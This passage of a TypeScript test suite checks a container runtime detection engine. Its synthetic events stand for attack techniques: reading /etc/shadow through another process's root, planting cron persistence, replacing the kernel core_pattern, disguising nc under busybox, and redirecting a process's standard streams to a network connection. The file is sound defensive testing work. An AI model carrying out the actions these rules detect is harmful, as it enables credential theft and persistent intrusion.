      "the old type of packet sockets",
      "Packet socket opened in container",
      "socket",
      { "evt.arg.domain": "AF_INET", "evt.arg.type": "SOCK_PACKET" },
    ],
    [
      "what is sent to open a connection",
      "Port of an engine or a cluster contacted",
      "sendto",
      connection("10.0.0.5", 2375),
    ],
  ])("are not evaded by %s", (_what, rule, type, fields) => {
    expect(rulesOf(everyRule, type, fields)).toContain(rule);
  });

  // On a host the first rule that matches is the one that speaks.
  it.each<readonly [string, string, EventType, Fields]>([
    [
      "a program that was removed",
      "Removed program executed",
      "execve",
      { "pratique.exe.unlinked": true, "proc.is_exe_upper_layer": true },
    ],
    [
      "a program that makes its caller another user",
      "Program with set-user-ID that is not in the image executed",
      "execve",
      { "pratique.exe.setuid": true, "proc.is_exe_upper_layer": true },
    ],
    [
      "a secret below the root of another process",
      "Secret read by another name",
      "openat",
      { ...reading("/proc/31/root/etc/shadow"), "pratique.fd.resolved": "/etc/shadow" },
    ],
    [
      "a place of persistence below the root of another process",
      "Place of persistence written by another name",
      "openat",
      { ...writing("/proc/31/root/etc/cron.d/x"), "pratique.fd.resolved": "/etc/cron.d/x" },
    ],
    [
      "a setting of the kernel by a descriptor",
      "Program that the kernel runs replaced by another name",
      "openat",
      { ...writing("/proc/self/fd/3"), "pratique.fd.resolved": "/proc/sys/kernel/core_pattern" },
    ],
  ])("name %s rather than what else it is", (_what, rule, type, fields) => {
    expect(rulesOf(firstRule, type, fields)).toEqual([rule]);
  });

  const detecting = cases.filter(([rule]) => !rule.startsWith("Hardened"));
  it.each(detecting)("%s: no rule of less priority speaks in its place", (rule, type, fields) => {
    const [heard = ""] = rulesOf(firstRule, type, fields);
    expect(priorityOf(heard)).toBeLessThanOrEqual(priorityOf(rule));
  });

  it.each<readonly [string, EventType, Fields]>([
    [
      "busybox is the part that it is called by",
      "openat",
      { ...reading("/etc/shadow"), ...program("su"), "proc.exepath": "/bin/busybox" },
    ],
    [
      "a part of busybox is given the name of a tool",
      "execve",
      { ...program("busybox", "grep nc"), "proc.args[0]": "grep" },
    ],
    [
      "a part of busybox is given the name of a tool first",
      "execve",
      { ...program("cat", "nc"), "proc.exepath": "/bin/busybox", "proc.args[0]": "nc" },
    ],
    [
      "dnf installs a program",
      "execve",
      {
        ...dropped,
        "proc.pname": "sh",
        "proc.aname[2]": "dnf",
        "pratique.image.aexepath[2]": "/usr/bin/python3.12",
      },
    ],
    [
      "a log is turned over",
      "rename",
      { "evt.arg.oldpath": "/var/log/auth.log", "evt.arg.newpath": "/var/log/auth.log.1" },
    ],
  ])("still say nothing where %s", (_what, type, fields) => {
    expect(rulesOf(everyRule, type, fields).filter((rule) => !rule.startsWith("Hardened"))).toEqual([]);
  });

  it("take nobody for the runtime whose parent was dropped into the container", () => {
    const mounts = { ...setup, "evt.arg.type": "proc", "evt.arg.dev": "proc" };
    expect(rulesOf(everyRule, "mount", { ...mounts, "pratique.parent.dropped": false })).toEqual([]);
    expect(rulesOf(everyRule, "mount", { ...mounts, "pratique.parent.dropped": true })).toEqual([
      "File system mounted in container",
    ]);
  });

  it.each([
    ["another part of it", { "proc.exe": "nc", "proc.args[0]": "-l" }],
    ["another part by its own name", { "proc.exe": "busybox", "proc.args[0]": "nc" }],
    ["a web server that is not of the image", { "proc.exe": "httpd", "proc.is_exe_upper_layer": true }],
  ])("tell of a busybox that gives its streams away: %s", (_what, fields) => {
    expect(rulesOf(everyRule, "dup2", { ...busyboxServes, ...fields })).toEqual([
      "Standard streams of a process are a connection",
    ]);
  });

  it.each(daily)("say nothing when %s", (_what, type, fields) => {
    expect(rulesOf(everyRule, type, fields)).toEqual([]);
  });
});

const everyRule = engineOf(() => true);
const firstRule = compileRules(ruleSet, new TestCatalog(), {
  typeOf,
  matching: "first",
  wants: ({ name }) => !name.startsWith("Hardened"),
});

/** The most severe is the first. */
function priorityOf(name: string): number {
  const rule = ruleSet.rules.find((each) => each.name === name);
  return priorities.findIndex((priority) => priority === rule?.priority);
}

function loaded(): RuleSet {
  const result = loadRules([hardenedRuleFile, ...builtinRuleFiles]);
  if (result.kind === "invalid") throw new Error(JSON.stringify(result.issues));
  expect(result.warnings).toEqual([]);
  expect(result.ruleSet.skipped).toEqual([]);
  return result.ruleSet;
}

function engineOf(wants: (name: string) => boolean): RuleEngine<TestEvent> {
  return compileRules(ruleSet, new TestCatalog(), {
    typeOf,
    matching: "all",
    wants: ({ name }) => wants(name),
  });
}

function rulesOf(engine: RuleEngine<TestEvent>, type: EventType, fields: Fields): readonly string[] {
  return engine.match({ type, fields: { ...ordinary, ...fields } }).map(({ rule }) => rule.name);
}
